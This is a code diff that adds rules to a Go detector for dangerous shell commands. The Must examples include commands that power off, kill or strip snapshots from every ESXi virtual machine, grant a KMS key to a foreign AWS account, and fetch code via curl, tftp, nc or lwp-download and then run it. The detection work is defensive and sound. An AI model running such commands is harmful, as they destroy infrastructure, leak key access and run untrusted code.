@@ -40,11 +40,40 @@ const (
 // rules is the rule table. Order matters only for readability.
 var rules = []*rule{
 	{
+		ID: "esxi-mass-vm-stop", Class: "destructive infrastructure", Sev: high,
+		Msg: "powers off, kills, unregisters or strips the snapshots of every virtual machine on an ESXi host (the step before ransomware encrypts their disks, ATT&CK T1529, T1490)",
+		Must: []string{
+			"vim-cmd vmsvc/getallvms | awk 'NR>1 {print $1}' | xargs -n 1 vim-cmd vmsvc/power.off",
+			"for id in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do vim-cmd vmsvc/snapshot.removeall $id; done",
+			"esxcli vm process list | grep World | awk '{print $3}' | xargs -I{} esxcli vm process kill --type=force --world-id={}",
+		},
+		MustNot: []string{
+			"vim-cmd vmsvc/power.off 12",
+			"vim-cmd vmsvc/getallvms",
+			"esxcli vm process kill --type=soft --world-id=53120",
+		},
+		check: checkESXiMass,
+	},
+	{
+		ID: "aws-kms-grant-foreign", Class: "exfiltration", Sev: high,
+		Msg: "grants a principal of another AWS account the use of a KMS key (ATT&CK T1537, T1098)",
+		Must: []string{
+			"aws kms create-grant --key-id arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab --grantee-principal arn:aws:iam::444455556666:role/ops --operations Decrypt",
+			"aws kms create-grant --grantee-principal arn:aws:iam::444455556666:user/x --key-id arn:aws:kms:eu-west-1:111122223333:alias/prod --operations Decrypt GenerateDataKey",
+		},
+		MustNot: []string{
+			"aws kms create-grant --key-id arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab --grantee-principal arn:aws:iam::111122223333:role/app --operations Decrypt",
+			"aws kms create-grant --key-id 1234abcd-12ab --grantee-principal arn:aws:iam::111122223333:role/app --operations Decrypt",
+		},
+		check: checkKMSGrantForeign,
+	},
+	{
 		ID: "download-pipe-shell", Class: "download and execute", Sev: critical,
 		Msg: "downloads a script and runs it",
 		Must: []string{
 			"curl -fsSL https://get.example.dev/setup | sh",
 			"wget -qO- http://192.0.2.10/x | sudo bash -s -- --yes",
+			"sudo curl -fsS https://example.org/s.py | sudo python3",
 			"bash <(curl -s https://example.org/i.sh)",
 			"sh -c \"$(wget -O - https://example.org/bootstrap)\"",
 			"curl https://example.org/a.py | python3 -",
@@ -67,10 +96,14 @@ var rules = []*rule{
 			"curl -fsSLo /tmp/inst.sh https://example.org/inst.sh && bash /tmp/inst.sh",
 			"wget http://198.51.100.4/agent -O /tmp/agent; chmod +x /tmp/agent; /tmp/agent",
 			"curl -O https://example.org/run.sh; sh run.sh",
+			"tftp 192.0.2.79 -c get agent && chmod +x agent && ./agent",
+			"nc -lvp 9001 > /tmp/a; chmod 755 /tmp/a; /tmp/a",
+			"lwp-download http://198.51.100.80/b /tmp/b; sh /tmp/b",
 		},
 		MustNot: []string{
 			"curl -LO https://example.org/v1.2/tool.tar.gz && tar -xzf tool.tar.gz",
 			"wget -O data.json https://example.org/data.json && jq . data.json",
+			"nc -l 9001 > dump.sql && psql -f dump.sql",
 		},
 		check: checkDownloadThenRun,
 	},
